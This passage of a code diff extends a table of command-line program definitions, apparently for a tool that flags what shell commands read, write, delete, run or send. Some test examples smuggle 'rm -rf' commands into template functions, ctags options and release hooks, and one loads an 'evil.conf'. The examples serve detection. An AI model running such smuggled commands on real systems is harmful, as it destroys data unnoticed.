+      { cmd: 'dotenv -f .env.local run rm -rf /tmp/x', reads: ['.env.local'], deletes: ['/tmp/x'] },
     ],
   },
   {
@@ -3166,6 +3242,912 @@ export default definePrograms([
     operands: ['value'],
     examples: [
       { cmd: "envsubst '$HOST $PORT' < nginx.conf.tmpl > nginx.conf", writes: ['nginx.conf'], only: true },
+    ],
+  },
+  {
+    names: ['chezmoi'],
+    summary: 'manage dotfiles: apply a source state (templates and scripts) into the home folder',
+    options: {
+      '-S|--source|--override-data-file': 'read',
+      '-D|--destination|-W|--working-tree': 'value',
+      '-c|--config': { takes: 'read', unknown: 'loads a configuration whose hooks and tools run commands' },
+      '-o|--output': 'write',
+      '-R|--refresh-externals|--progress': { takes: 'value', attached: true },
+      '--config-format|--color|--cache|--mode|--persistent-state|-x|--exclude|-i|--include|--override-data|--use-builtin-age|--use-builtin-diff|--use-builtin-git|--branch|--depth|--promptBool|--promptChoice|--promptInt|--promptString|--format|--path-style':
+        'value',
+      '-n|--dry-run|-v|--verbose|--force|-k|--keep-going|--no-tty|--no-pager|--debug|--interactive|-P|--parent-dirs|-r|--recursive|--init|-a|--apply|--one-shot|--ssh|--purge|--purge-binary|--encrypt|--exact|--follow|--create|--no-scripts|--guess-repo-url|--recurse-submodules|-t|--tree|-T|--template|-h|--help|--version':
+        'flag',
+    },
+    operands: ['value...'],
+    subcommands: {
+      apply: {
+        summary: "write the dotfiles into the home folder and run the source state's scripts",
+        operands: ['value...'],
+        custom: (call) => chezmoiApply(call),
+      },
+      update: {
+        summary: 'pull the dotfiles repository, then apply it',
+        operands: ['value...'],
+        effects: { network: true },
+        custom: (call) => chezmoiApply(call),
+      },
+      init: {
+        summary: 'clone a dotfiles repository (and apply it with --apply)',
+        operands: ['value'],
+        custom(call) {
+          const { ctx } = call;
+          const repo = call.operands[0];
+          if (repo)
+            ctx.apply(
+              'url',
+              /^[a-z]+:\/\/|@/.test(repo.text)
+                ? repo
+                : f(
+                    repo,
+                    `https://github.com/${repo.text.includes('/') ? repo.text : `${repo.text}/dotfiles`}`,
+                  ),
+            );
+          ctx.write(`${ctx.home}/.local/share/chezmoi/**`);
+          if (call.has('-a', '--apply', '--one-shot')) chezmoiApply(call);
+        },
+      },
+      're-add|add|import|chattr|forget|generate|secret|encrypt|decrypt|archive|age': {
+        summary: 'change the source state, or encrypt, decrypt and archive files',
+        operands: ['read...'],
+        custom: (call) =>
+          call.sub === 'secret'
+            ? call.ctx.unknown('runs a password manager command')
+            : call.ctx.write(`${call.ctx.home}/.local/share/chezmoi/**`),
+      },
+      'edit|edit-config|edit-config-template|merge|merge-all': {
+        summary: 'edit dotfiles or the configuration',
+        operands: ['value...'],
+        effects: { unknown: 'opens an editor or merge tool that reads the terminal' },
+        custom(call) {
+          call.ctx.write(`${call.ctx.home}/.local/share/chezmoi/**`);
+          if (call.has('-a', '--apply')) chezmoiApply(call);
+        },
+      },
+      'destroy|purge': {
+        summary: "delete dotfiles from the home folder and the source state, or chezmoi's own files",
+        operands: ['value...'],
+        effects: { risks: ['destructive'] },
+        custom(call) {
+          for (const target of call.operands) call.ctx.apply('delete-tree', target);
+          if (call.sub === 'purge')
+            call.ctx.apply('delete-tree', f(DOT, `${call.ctx.home}/.local/share/chezmoi`));
+        },
+      },
+      'cd|execute-template': {
+        summary: 'open a shell in the source folder, or render a template',
+        operands: ['value...'],
+        custom: (call) =>
+          call.ctx.unknown(
+            call.sub === 'cd'
+              ? 'opens a shell that reads the terminal'
+              : 'renders a template, whose functions can run commands',
+          ),
+      },
+      git: {
+        summary: 'run git in the source folder',
+        optionsFirst: true,
+        operands: ['value...'],
+        custom: (call) => call.ctx.run([f(call.args[0]!, 'git'), ...call.operands], 'chezmoi git'),
+      },
+      upgrade: {
+        summary: 'replace chezmoi with its newest release',
+        effects: { network: true, risks: ['system-change'] },
+      },
+      'diff|status|managed|unmanaged|ignored|data|cat|cat-config|dump|dump-config|doctor|verify|source-path|target-path|state|help|version|completion|license|docs|unmanaged':
+        { summary: 'print the state of the dotfiles', operands: ['value...'] },
+    },
+    examples: [
+      { cmd: 'chezmoi diff', only: true },
+      { cmd: 'chezmoi apply', risks: ['persistence'], writes: ['~/**'] },
+      { cmd: 'chezmoi apply -n', only: true },
+      { cmd: 'chezmoi init --apply someone', hosts: ['github.com'], risks: ['persistence'] },
+      { cmd: 'chezmoi add ~/.bashrc', reads: ['~/.bashrc'] },
+      { cmd: 'chezmoi destroy ~/.ssh', risks: ['destructive'], deletes: ['~/.ssh'] },
+      { cmd: 'chezmoi cd', unknown: 'shell' },
+      { cmd: 'chezmoi execute-template \'{{ output "rm" "-rf" "/tmp/x" }}\'', unknown: 'template' },
+    ],
+  },
+  {
+    names: ['stow', 'xstow'],
+    summary:
+      'link the files of packages into a target folder (GNU Stow, often dotfiles into the home folder)',
+    options: {
+      '-d|--dir': 'read',
+      '-t|--target': 'value',
+      '--ignore|--defer|--override': 'value',
+      '-D|--delete': { mode: 'delete' },
+      '-n|--no|--simulate': { mode: 'dry' },
+      '--adopt': { mode: 'adopt' },
+      '-S|--stow|-R|--restow|--no-folding|--dotfiles|-v|--verbose|-p|--compat|-V|--version|-h|--help': 'flag',
+    },
+    operands: ['value...'],
+    custom(call) {
+      const { ctx } = call;
+      if (call.has('-n', '--no', '--simulate', '-V', '--version', '-h', '--help')) return;
+      const dir = call.values('-d', '--dir')[0]?.text ?? '.';
+      const target = call.values('-t', '--target')[0] ?? f(DOT, `${dir.replace(/\/$/, '')}/..`);
+      ctx.apply('write-tree', target);
+      for (const pkg of call.operands) {
+        const source = f(pkg, `${dir.replace(/\/$/, '')}/${pkg.text}`);
+        ctx.apply(call.has('--adopt') ? 'write-tree' : 'read-tree', source);
+      }
+      ctx.risk(
+        target.known && /^\/(usr|opt|etc)(\/|$)/.test(ctx.path(target.text))
+          ? 'system-change'
+          : 'persistence',
+      );
+    },
+    examples: [
+      { cmd: 'stow -n -v vim', only: true },
+      { cmd: 'stow -t ~ zsh', writes: ['~/**'], risks: ['persistence'], reads: ['zsh/**'] },
+      { cmd: 'stow -d /usr/local/stow -t /usr/local tool', risks: ['system-change'] },
+      { cmd: 'stow --adopt -t ~ bash', writes: ['bash/**', '~/**'] },
+    ],
+  },
+  {
+    names: ['yadm'],
+    summary: 'manage dotfiles with a git repository whose work tree is the home folder',
+    options: {
+      '-Y': 'read',
+      '--yadm-dir|--yadm-data|--yadm-repo|--yadm-config|--yadm-encrypt|--yadm-archive|--yadm-bootstrap':
+        'value',
+    },
+    subcommands: {
+      clone: {
+        summary: 'clone a dotfiles repository into the home folder (and run its bootstrap)',
+        options: { '-w|-b|--branch|--depth': 'value', '-f|--bootstrap|--no-bootstrap': 'flag' },
+        operands: ['url'],
+        effects: { network: true, risks: ['persistence'] },
+        custom(call) {
+          const { ctx } = call;
+          ctx.write(`${ctx.home}/**`);
+          if (!call.has('--no-bootstrap')) ctx.runsFile(f(DOT, `${ctx.home}/.config/yadm/bootstrap`));
+        },
+      },
+      'pull|checkout|reset|restore|merge|rebase|stash|alt|decrypt|perms': {
+        summary: 'write tracked dotfiles into the home folder',
+        operands: ['value...'],
+        effects: { risks: ['persistence'] },
+        custom(call) {
+          call.ctx.write(`${call.ctx.home}/**`);
+          if (call.sub === 'pull') call.ctx.network();
+        },
+      },
+      push: {
+        summary: 'push the dotfiles repository',
+        operands: ['value...'],
+        effects: { network: true, sends: true },
+      },
+      fetch: { summary: 'fetch the dotfiles repository', operands: ['value...'], effects: { network: true } },
+      bootstrap: {
+        summary: 'run the bootstrap program',
+        custom: (call) => call.ctx.runsFile(f(DOT, `${call.ctx.home}/.config/yadm/bootstrap`)),
+      },
+      enter: {
+        summary: "run a shell or a command with the repository's git environment",
+        optionsFirst: true,
+        operands: ['argv'],
+        custom: (call) =>
+          call.operands.length === 0 ? call.ctx.unknown('opens a shell that reads the terminal') : undefined,
+      },
+      encrypt: {
+        summary: 'encrypt the files listed in the encrypt file',
+        custom: (call) => call.ctx.write(`${call.ctx.home}/.local/share/yadm/archive`),
+      },
+      init: {
+        summary: 'start a dotfiles repository',
+        options: { '-w': 'value', '-f': 'flag' },
+        custom: (call) => call.ctx.write(`${call.ctx.home}/.local/share/yadm/**`),
+      },
+      'config|gitconfig|list|introspect|version|help|upgrade|git-crypt|transcrypt': {
+        summary: 'settings and information',
+        operands: ['value...'],
+      },
+      '*': {
+        summary: 'any git command, on the dotfiles repository',
+        operands: ['value...'],
+        custom: (call) => call.ctx.run([f(call.args[0]!, 'git'), ...call.args], 'yadm'),
+      },
+    },
+    examples: [
+      { cmd: 'yadm status', runs: ['git'], only: true },
+      {
+        cmd: 'yadm clone https://github.com/me/dotfiles',
+        risks: ['persistence'],
+        executes: ['~/.config/yadm/bootstrap'],
+      },
+      { cmd: 'yadm push', risks: ['exfiltration'] },
+      { cmd: 'yadm pull', risks: ['persistence'], network: true },
+      { cmd: 'yadm enter rm -rf /tmp/x', deletes: ['/tmp/x'] },
+    ],
+  },
+  {
+    names: ['lazygit', 'gitui', 'tig'],
+    summary: 'interactive terminal interfaces for git',
+    options: {
+      '-p|--path|-w|--work-tree|--workdir|-g|--git-dir|-d|--directory|-f|--filter|-ucd|--use-config-dir|-t|--theme|-l|--logging|-sm|--screen-mode|--file|-C':
+        'value',
+      '-v|--version|-V|-c|--config|-cd|--print-config-dir|-h|--help|--debug|--logs|--bugreport|--polling|--watcher':
+        { mode: 'info' },
+    },
+    operands: ['value...'],
+    custom(call) {
+      if (
+        call.has(
+          '-v',
+          '--version',
+          '-V',
+          '-c',
+          '--config',
+          '-cd',
+          '--print-config-dir',
+          '-h',
+          '--help',
+          '--logs',
+          '--bugreport',
+        )
+      )
+        return;
+      call.ctx.unknown('is an interactive program that takes its actions from the terminal');
+    },
+    examples: [
+      { cmd: 'lazygit --version', only: true },
+      { cmd: 'lazygit', unknown: 'interactive' },
+      { cmd: 'tig log --all', unknown: 'interactive' },
+    ],
+  },
+  {
+    names: ['glow'],
+    summary: 'render Markdown in the terminal',
+    readonly: true,
+    options: {
+      '-s|--style': 'value',
+      '--config': 'read',
+      '-w|--width': 'value',
+      '-t|--tui': { mode: 'tui' },
+      '-p|--pager|-a|--all|-l|--line-numbers|-n|--preserve-new-lines|-v|--version|-h|--help|--mouse': 'flag',
+    },
+    operands: ['value'],
+    custom(call) {
+      const { ctx } = call;
+      const source = call.operands[0];
+      for (const style of call.values('-s', '--style')) if (/[/.]/.test(style.text)) ctx.apply('read', style);
+      if (call.has('-v', '--version', '-h', '--help')) return;
+      if (!source || call.has('-t', '--tui')) {
+        ctx.unknown(
+          'opens an interactive file browser that takes its actions (such as opening an editor) from the terminal',
+        );
+        if (!source) return;
+      }
+      if (source.text === '-') return;
+      if (/^[a-z]+:\/\//.test(source.text)) ctx.apply('url', source);
+      else if (/^(github\.com|gitlab\.com)\//.test(source.text)) ctx.host(source.text.split('/')[0]!);
+      else ctx.apply('read', source);
+    },
+    subcommands: {
+      config: {
+        summary: 'edit the configuration',
+        effects: { unknown: 'opens an editor that reads the terminal' },
+      },
+      'completion|help': { summary: 'print information', operands: ['value...'] },
+    },
+    examples: [
+      { cmd: 'glow README.md', reads: ['README.md'], only: true },
+      { cmd: 'glow https://example.com/doc.md', hosts: ['example.com'] },
+      { cmd: 'glow', unknown: 'interactive' },
+    ],
+  },
+  {
+    names: ['mdcat', 'mdless'],
+    summary: 'render Markdown in the terminal',
+    readonly: true,
+    options: {
+      '--columns|--completions': 'value',
+      '-p|--paged|-P|--no-pager|-c|--no-colour|-l|--local|--ansi|--detect-terminal|--detect-and-exit|--fail|-h|--help|-V|--version':
+        'flag',
+    },
+    operands: ['read...'],
+    examples: [{ cmd: 'mdcat --local CHANGELOG.md', reads: ['CHANGELOG.md'], only: true }],
+  },
+  {
+    names: ['mdbook'],
+    summary: 'build books from Markdown (running the preprocessors and renderers named in book.toml)',
+    options: {
+      '-d|--dest-dir': 'write-tree',
+      '-L|--library-path': 'read',
+      '-n|--hostname|-p|--port|--websocket-hostname|--websocket-port|-c|--chapter|--title|--ignore|--watcher':
+        'value',
+      '-o|--open|--force|--theme|-h|--help|-V|--version': 'flag',
+    },
+    subcommands: {
+      'build|b|watch|w': {
+        summary: 'build the book',
+        operands: ['read-tree'],
+        custom: (call) => mdbook(call),
+      },
+      'serve|s': {
+        summary: 'build the book and serve it over HTTP',
+        operands: ['read-tree'],
+        custom(call) {
+          mdbook(call);
+          call.ctx.network();
+          const host = call.values('-n', '--hostname')[0]?.text ?? 'localhost';
+          if (!LOOPBACK.test(host)) {
+            call.ctx.sends();
+            call.ctx.unknown(
+              `\`mdbook serve\` serves the book to \`${host}\`, reachable from other machines`,
+            );
+          }
+        },
+      },
+      test: {
+        summary: "compile and run the book's Rust code samples",
+        operands: ['read-tree'],
+        effects: { executes: "the book's Rust code samples (rustdoc --test)" },
+      },
+      init: {
+        summary: 'start a book',
+        operands: ['write-tree'],
+        custom: (call) => (call.operands.length === 0 ? call.ctx.apply('write-tree', DOT) : undefined),
+      },
+      clean: {
+        summary: 'delete the built book',
+        operands: ['read'],
+        custom: (call) =>
+          call.ctx.apply(
+            'delete-tree',
+            call.values('-d', '--dest-dir')[0] ?? f(DOT, `${call.operands[0]?.text ?? '.'}/book`),
+          ),
+      },
+      'completions|help': { summary: 'print information', operands: ['value...'] },
+    },
+    examples: [
+      {
+        cmd: 'mdbook build',
+        writes: ['book', 'book/**'],
+        executes: ['the preprocessors and renderers named in book.toml'],
+      },
+      { cmd: 'mdbook serve --port 3001', network: true, unknown: false },
+      { cmd: 'mdbook serve -n 0.0.0.0', risks: ['exfiltration'], unknown: 'serves' },
+    ],
+  },
+  {
+    names: ['envchain'],
+    summary: 'keep secrets in the system keychain and run commands with them in their environment',
+    optionsFirst: true,
+    options: {
+      '-s|--set': { mode: 'set' },
+      '-l|--list': { mode: 'list' },
+      '--unset': { mode: 'unset' },
+      '-n|--noecho|-p|--require-passphrase|-P|--no-require-passphrase|-h|--help|-v|--version': 'flag',
+    },
+    operands: (call) =>
+      call.has('-s', '--set', '-l', '--list', '--unset') ? ['value...'] : ['value', 'argv'],
+    custom(call) {
+      const { ctx } = call;
+      if (call.has('-s', '--set', '--unset')) ctx.write('keychain:envchain');
+      else if (!call.has('-l', '--list', '-h', '--help', '-v', '--version'))
+        ctx.unknown("reads secrets from the keychain into the command's environment");
+    },
+    examples: [
+      { cmd: 'envchain aws aws s3 ls', runs: ['aws'], unknown: 'secrets' },
+      { cmd: 'envchain --list', only: true },
+    ],
+  },
+  {
+    names: [
+      'ctags',
+      'universal-ctags',
+      'ctags-universal',
+      'exuberant-ctags',
+      'ctags-exuberant',
+      'uctags',
+      'etags',
+      'ctags.emacs',
+      'etags.emacs',
+    ],
+    summary: 'index the definitions of source files into a tags file',
+    options: {
+      '-f|-o|--output': 'value',
+      '-L': 'read',
+      '--include': 'read',
+      '--options|--etags-include|--regex-file': { takes: 'read', attached: true },
+      '-e|--etags': { mode: 'etags' },
+      '--output-format': { takes: 'value', attached: true },
+      '-x|--filter|--print-language|--list-extras|--list-fields|--list-kinds|--list-kinds-full|--list-languages|--list-maps|--list-roles|--list-subparsers|--version|--help|--help-full':
+        { mode: 'print' },
+      '-R|--recurse|-r': { mode: 'recurse' },
+      '-I|-h|-l|--language|--lang|--regex|--ignore-case-regex': 'value',
+      // Universal Ctags takes the values of its long options only as `--name=value`.
+      '--exclude|--exclude-exception|--languages|--language-force|--fields|--extras|--kinds|--excmd|--tag-relative|--sort|--input-encoding|--output-encoding|--maxdepth|--pattern-length-limit|--langmap|--map|--langdef|--param|--pseudo-tags|--totals|--links|--format|--file-scope|--if0|--line-directives|--optlib-dir':
+        { takes: 'value', attached: true },
+      '--aarm-lang': 'value',
+      '--aarm-xcmd': 'command',
+      '-a|--append|-u|-n|-N|-B|-F|-V|--verbose|--quiet|-q|-w|--members|--no-members|--declarations|--globals|--no-globals|--typedefs|--defines|--ignore-indentation|--no-line-directive|--no-warn':
+        'flag',
+    },
+    operands: (call) => (call.has('-R', '--recurse', '-r') ? ['read-tree...'] : ['read...']),
+    // Per-language settings: `--c-kinds=f`, `--kinds-C=+p`, `--regex-foo=/x/y/`, `--param-CPreProcessor._expand=1`.
+    rewrite(args) {
+      return args.flatMap((a) =>
+        a.known &&
+        /^--(?:[\w+#]+-(?:kinds|fields|extras)|(?:kinds|fields|extras|regex|mline-regex|mtable-regex|map|param|langmap|roles|_roledef|_fielddef|_extradef|_tabledef|_prelude|_sequel|_scopesep)-?[\w+#.]*|_?xcmd-[\w+#]*)=/.test(
+          a.text,
+        )
+          ? [
+              { ...a, text: /^--_?xcmd/.test(a.text) ? '--aarm-xcmd' : '--aarm-lang' },
+              { ...a, text: a.text.slice(a.text.indexOf('=') + 1) },
+            ]
+          : [a],
+      );
+    },
+    custom(call) {
+      const { ctx } = call;
+      if (
+        call.has(
+          '-x',
+          '--filter',
+          '--print-language',
+          '--list-extras',
+          '--list-fields',
+          '--list-kinds',
+          '--list-kinds-full',
+          '--list-languages',
+          '--list-maps',
+          '--list-roles',
+          '--list-subparsers',
+          '--version',
+          '--help',
+          '--help-full',
+        )
+      )
+        return;
+      const output = call.values('-f', '-o', '--output')[0];
+      if (output) {
+        if (output.text !== '-') ctx.apply('write', output);
+        return;
+      }
+      const etags =
+        call.program.startsWith('etags') ||
+        call.has('-e', '--etags') ||
+        call.values('--output-format').some((v) => v.text === 'etags');
+      ctx.write(ctx.path(etags ? 'TAGS' : 'tags'));
+      if (call.operands.length === 0 && call.has('-R', '--recurse', '-r')) ctx.read(`${ctx.path('.')}/**`);
+    },
+    examples: [
+      { cmd: 'ctags -R .', reads: ['**'], writes: ['tags'], only: true },
+      { cmd: 'ctags -R -f .git/tags src', writes: ['.git/tags'], only: true },
+      { cmd: 'etags *.c', writes: ['TAGS'] },
+      { cmd: 'ctags -x --c-kinds=f --kinds-C=+p main.c', reads: ['main.c'], only: true },
+      { cmd: "ctags --xcmd-c='rm -rf /tmp/x' a.c", deletes: ['/tmp/x'] },
+    ],
+  },
+  {
+    names: ['readtags'],
+    summary: 'look names up in a tags file',
+    readonly: true,
+    options: {
+      '-t|--tag-file|-Q|--filter|-S|--sorter|-A|--formatter': 'value',
+      '-e|-n|-E|-i|-p|-l|-D|-P|-d|-h|--help|-v|--version': 'flag',
+    },
+    operands: ['value...'],
+    examples: [{ cmd: 'readtags -t tags main', only: true }],
+  },
+  {
+    names: ['gtags'],
+    summary: 'make GNU GLOBAL tag files (GTAGS, GRTAGS, GPATH) for a source tree',
+    options: {
+      '-C|--directory': 'cwd',
+      '-f|--file|-d|--dump|--single-update': 'read',
+      '--config': { takes: 'value', attached: true },
+      '--gtagsconf': {
+        takes: 'read',
+        unknown: 'reads a configuration that can load parser plugins (native libraries)',
+      },
+      '--gtagslabel': 'value',
+      '-O|--objdir|-c|--compact|-i|--incremental|-I|--idutils|-q|--quiet|-v|--verbose|-w|--warning|--accept-dotfiles|--explain|--skip-unreadable|--skip-symlink|--sqlite3|--statistics|--help|--version':
+        'flag',
+    },
+    operands: ['value'],
+    custom(call) {
+      const { ctx } = call;
+      if (call.has('--help', '--version', '-d', '--dump', '--config')) return;
+      const db = call.operands[0];
+      const dir = db?.known ? db.text : '.';
+      for (const name of ['GTAGS', 'GRTAGS', 'GPATH']) ctx.write(ctx.path(`${dir}/${name}`));
+      if (call.has('-I', '--idutils')) ctx.write(ctx.path(`${dir}/ID`));
+      if (!call.values('-f', '--file').length) ctx.read(`${ctx.path('.')}/**`);
+    },
+    examples: [
+      { cmd: 'gtags', reads: ['**'], writes: ['GTAGS', 'GRTAGS', 'GPATH'], only: true },
+      { cmd: 'gtags --gtagsconf ./evil.conf', unknown: 'plugins' },
+    ],
+  },
+  {
+    names: ['global'],
+    summary: 'look names up in GNU GLOBAL tag files',
+    readonly: true,
+    options: {
+      '-C|--directory': 'cwd',
+      '-f|--file': 'read',
+      '-S|--scope|--result|--path-style|--from-here|--print|--encode-path|--match-part|--gtagslabel|-e|--regexp':
+        'value',
+      '--nearness|--color': { takes: 'value', attached: true },
+      '--gtagsconf': {
+        takes: 'read',
+        unknown: 'reads a configuration that can load parser plugins (native libraries)',
+      },
+      '-u|--update': { mode: 'update' },
+      '--single-update': { takes: 'read', mode: 'update' },
+      '-a|--absolute|-c|--completion|-d|--definition|-E|--extended-regexp|-F|--first-match|-G|--basic-regexp|-g|--grep|--literal|-i|--ignore-case|-l|--local|-M|--match-case|-n|--nofilter|-N|--nearness-default|-O|--other|-o|--only-other|-P|--path|-p|--print-dbpath|-q|--quiet|-r|--reference|--rootdir|-s|--symbol|-T|--through|-t|--tags|-V|--invert-match|-v|--verbose|-x|--cxref|--help|--version':
+        'flag',
+    },
+    operands: ['value...'],
+    custom(call) {
+      if (call.has('-u', '--update') || call.values('--single-update').length > 0)
+        for (const name of ['GTAGS', 'GRTAGS', 'GPATH']) call.ctx.write(call.ctx.path(name));
+    },
+    examples: [
+      { cmd: 'global -x main', only: true },
+      { cmd: 'global -u', writes: ['GTAGS'] },
+    ],
+  },
+  {
+    names: ['cscope'],
+    summary: 'browse C source code interactively, or build its cross-reference',
+    options: {
+      '-f': 'write',
+      '-F|-i': 'read',
+      '-I|-s': 'read-tree',
+      '-p|-P|-0|-1|-2|-3|-4|-5|-6|-7|-8|-9': 'value',
+      '-b|-L|-l|-d': { mode: 'batch' },
+      '-C|-c|-e|-k|-q|-R|-T|-U|-u|-v|-V|-X|-h|--help|--version': 'flag',
+    },
+    operands: ['read...'],
+    custom(call) {
+      const { ctx } = call;
+      if (call.has('-V', '-h', '--help', '--version')) return;
+      if (!call.has('-b', '-L', '-l'))
+        ctx.unknown(
+          'opens an interactive browser that can run an editor and shell commands from the terminal',
+        );
+      if (!call.has('-d') && call.values('-f').length === 0) ctx.write(ctx.path('cscope.out'));
+      if (call.has('-q')) {
+        ctx.write(ctx.path('cscope.in.out'));
+        ctx.write(ctx.path('cscope.po.out'));
+      }
+      if (call.has('-R')) ctx.read(`${ctx.path('.')}/**`);
+    },
+    examples: [
+      { cmd: 'cscope -b -q -R', writes: ['cscope.out', 'cscope.in.out', 'cscope.po.out'], only: true },
+      { cmd: 'cscope -d -L -1 main', only: true },
+      { cmd: 'cscope -R', unknown: 'interactive' },
+    ],
+  },
+  {
+    names: ['cz', 'commitizen', 'git-cz'],
+    summary: 'Commitizen: write conventional commit messages, bump versions and changelogs',
+    options: {
+      '--config': { takes: 'read', unknown: 'loads settings whose bump hooks run commands' },
+      '-n|--name': 'value',
+      '--debug|-nr|--no-raise|-h|--help|-v|--version|--report': 'flag',
+    },
+    operands: ['value...'],
+    custom(call) {
+      if (call.has('-h', '--help', '-v', '--version', '--report')) return;
+      call.ctx.unknown('asks the commit message questions on the terminal');
+      call.ctx.write(`${call.ctx.path('.git')}/**`);
+      call.ctx.executes('git hooks');
+    },
+    subcommands: {
+      'commit|c': {
+        summary: 'ask for a commit message and commit',
+        options: {
+          '--write-message-to-file': 'write',
+          '--retry|--no-retry|--dry-run|-s|--signoff|-a|--all': 'flag',
+          '-e|--edit': { unknown: 'opens the commit message in an editor that reads the terminal' },
+          '-l|--message-length-limit': 'value',
+        },
+        operands: ['value...'],
+        custom(call) {
+          call.ctx.write(`${call.ctx.path('.git')}/**`);
+          call.ctx.executes('git hooks');
+          if (!call.has('--retry')) call.ctx.unknown('asks the commit message questions on the terminal');
+        },
+      },
+      bump: {
+        summary: 'bump the version, update the changelog, commit and tag',
+        options: {
+          '--tag-format|--bump-message|-pr|--prerelease|-d|--devrelease|--increment|--increment-mode|-t|--template|-e|--extra|--file-name|--prerelease-offset|--version-scheme|--version-type|--build-metadata':
+            'value',
+          '--dry-run|--files-only|-ch|--changelog|--no-verify|--yes|-cc|--check-consistency|-at|--annotated-tag|-s|--gpg-sign|--changelog-to-stdout|--git-output-to-stderr|--retry|--major-version-zero|--get-next|--allow-no-commit|--local-version':
+            'flag',
+        },
+        operands: ['value'],
+        custom(call) {
+          if (call.has('--dry-run', '--get-next')) return;
+          call.ctx.write(`${call.ctx.path('.')}/**`);
+          call.ctx.executes('the bump hooks named in the Commitizen settings, and git hooks');
+        },
+      },
+      'changelog|ch': {
+        summary: 'write the changelog',
+        options: {
+          '--file-name|--start-rev|--unreleased-version|-t|--template|-e|--extra|--tag-format|--export-template|--version-scheme':
+            'value',
+          '--dry-run|--incremental|--merge-prerelease': 'flag',
+        },
+        operands: ['value'],
+        custom: (call) =>
+          call.has('--dry-run')
+            ? undefined
+            : call.ctx.apply('write', call.values('--file-name')[0] ?? f(DOT, 'CHANGELOG.md')),
+      },
+      check: {
+        summary: 'check commit messages',
+        options: {
+          '--commit-msg-file': 'read',
+          '--rev-range|-m|--message|-l|--message-length-limit': 'value',
+          '--allow-abort': 'flag',
+          '--allowed-prefixes': 'value',
+        },
+      },
+      init: {
+        summary: 'ask for and write Commitizen settings',
+        effects: { unknown: 'asks questions on the terminal' },
+        custom: (call) => call.ctx.write(call.ctx.path('.cz.toml')),
+      },
+      'version|ls|example|info|schema': {
+        summary: 'print information',
+        options: { '-p|--project|-c|--commitizen|-v|--verbose': 'flag' },
+      },
+    },
+    examples: [
+      { cmd: 'cz check --rev-range origin/main..HEAD', only: true },
+      { cmd: 'cz version -p', only: true },
+      { cmd: 'cz commit', unknown: 'questions' },
+      { cmd: 'cz bump --yes', writes: ['**'] },
+      { cmd: 'git-cz', unknown: 'questions' },
+    ],
+  },
+  {
+    names: ['semantic-release'],
+    summary: 'decide the next version from commits, then tag, push, publish and announce the release',
+    options: {
+      '-r|--repository-url': 'url',
+      '-b|--branches|-t|--tag-format|-p|--plugins|-e|--extends': 'value',
+      '-d|--dry-run|--no-ci|--ci|--debug|-h|--help|-v|--version': 'flag',
+    },
+    effects: { network: true },
+    operands: [],
+    custom(call) {
+      const { ctx } = call;
+      if (call.has('-h', '--help', '-v', '--version')) return;
+      ctx.executes('the release plugins (which can run commands)');
+      if (!call.has('-d', '--dry-run')) ctx.sends();
+    },
+    examples: [
+      {
+        cmd: 'semantic-release --dry-run',
+        network: true,
+        executes: ['the release plugins (which can run commands)'],
+      },
+      { cmd: 'semantic-release', risks: ['exfiltration'] },
+    ],
+  },
+  {
+    names: ['release-it'],
+    summary: 'bump the version, commit, tag, push, publish to npm and make a GitHub or GitLab release',
+    options: {
+      '-c|--config': 'read',
+      '--preRelease': { takes: 'value', attached: true },
+      '-i|--increment|--preReleaseId|--npm.tag|--npm.otp|--github.releaseName|--git.tagName|--git.commitMessage':
+        'value',
+      '-d|--dry-run|--ci|--only-version|--release-version|--changelog|-V|--verbose|-v|--version|-h|--help|--no-increment':
+        'flag',
+      '--aarm-hook': 'value',
+    },
+    operands: ['value'],
+    // `--hooks.after:bump="cmd"`: release-it runs hook commands.
+    rewrite(args) {
+      return args.flatMap((a) =>
+        a.known && /^--hooks\.[\w:-]+=/.test(a.text)
+          ? [
+              { ...a, text: '--aarm-hook' },
+              { ...a, text: a.text.slice(a.text.indexOf('=') + 1) },
+            ]
+          : [a],
+      );
+    },
+    custom(call) {
+      const { ctx } = call;
+      for (const hook of call.values('--aarm-hook')) ctx.apply('command', hook);
+      if (call.has('-v', '--version', '-h', '--help', '--release-version', '--changelog')) return;
+      ctx.network();
+      ctx.executes('the hooks and plugins named in the release-it settings');
+      if (!call.has('-d', '--dry-run')) ctx.sends();
+    },
+    examples: [
+      { cmd: 'release-it --release-version', only: true },
+      { cmd: 'release-it minor --ci', risks: ['exfiltration'] },
+      { cmd: 'release-it --dry-run "--hooks.after:bump=rm -rf /tmp/x"', deletes: ['/tmp/x'] },
+    ],
+  },
+  {
+    names: ['changeset'],
+    summary: 'Changesets: record release notes, bump package versions and publish',
+    options: {
+      '--empty|--open|--since|--verbose|--snapshot|--no-git-tag|-h|--help|-v|--version': 'flag',
+      '--otp|--tag|--ignore|--snapshot-prerelease-template': 'value',
+      '--output': 'write',
+    },
+    operands: [],
+    custom(call) {
+      if (call.has('-h', '--help', '-v', '--version')) return;
+      changesetAdd(call);
+    },
+    subcommands: {
+      add: { summary: 'record a changeset', custom: changesetAdd },
+      version: {
+        summary: 'apply changesets: bump versions and write changelogs',
+        custom: (call) => call.ctx.write(`${call.ctx.path('.')}/**`),
+      },
+      publish: {
+        summary: 'publish changed packages to npm and tag them',
+        effects: { network: true, sends: true, executes: 'package lifecycle scripts' },
+      },
+      status: { summary: 'print pending changesets', options: { '--since': 'value' } },
+      pre: {
+        summary: 'enter or leave prerelease mode',
+        operands: ['value...'],
+        custom: (call) => call.ctx.write(call.ctx.path('.changeset/pre.json')),
+      },
+      tag: {
+        summary: 'tag the current package versions in git',
+        custom: (call) => call.ctx.write(`${call.ctx.path('.git')}/**`),
+      },
+      init: {
+        summary: 'write the .changeset folder',
+        custom: (call) => call.ctx.write(`${call.ctx.path('.changeset')}/*`),
+      },
+    },
+    examples: [
+      { cmd: 'changeset status', only: true },
+      { cmd: 'changeset --empty', writes: ['.changeset/*'], only: true },
+      { cmd: 'changeset', unknown: 'questions' },
+      { cmd: 'changeset publish', risks: ['exfiltration'] },
+    ],
+  },
+  {
+    names: ['np'],
+    summary: 'publish an npm package: checks, version bump, tag, push and publish',
+    options: {
+      '--branch|--tag|--contents|--test-script|--message|--package-manager|--remote': 'value',
+      '--any-branch|--no-cleanup|--no-tests|--yolo|--no-publish|--preview|--no-release-draft|--release-draft-only|--no-2fa|--provenance|--no-yarn|-h|--help|-v|--version':
+        'flag',
+    },
+    operands: ['value'],
+    custom(call) {
+      const { ctx } = call;
+      if (call.has('-h', '--help', '-v', '--version')) return;
+      ctx.network();
+      ctx.executes('package lifecycle scripts and tests');
+      if (call.operands.length === 0) ctx.unknown('asks the terminal for the new version');
